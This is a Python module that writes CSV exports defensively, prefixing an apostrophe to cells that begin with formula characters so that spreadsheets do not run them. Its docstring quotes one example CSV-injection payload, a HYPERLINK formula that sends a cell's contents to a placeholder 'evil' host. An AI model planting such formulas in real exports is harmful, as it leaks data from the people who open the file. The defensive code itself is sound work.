"""The one way the app writes CSV files people open in a spreadsheet.

A cell that begins with = + - @ (or a tab or carriage return, which some spreadsheets skip
before looking for those) is read as a formula by Excel, LibreOffice and WPS: a learner named
``=HYPERLINK("http://evil/?"&A1,"click")`` would run in HR's spreadsheet. Such cells get a
leading apostrophe, which spreadsheets show as plain text (OWASP "CSV injection").
"""
from __future__ import annotations

import csv
import io
from typing import Any, Iterable

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value as it may go into a cell: None as empty, text that a spreadsheet would run as a formula quoted."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value  # numbers stay numbers: -3 is a value, not a formula


def csv_bytes(header: Iterable[Any], rows: Iterable[Iterable[Any]], *, bom: bool = True) -> bytes:
    """A whole CSV file as UTF-8 bytes, every cell (header included) passed through safe_cell."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([safe_cell(value) for value in header])
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    # The BOM makes Excel read the file as UTF-8, so Chinese names show correctly.
    return (("\ufeff" if bom else "") + buffer.getvalue()).encode("utf-8")
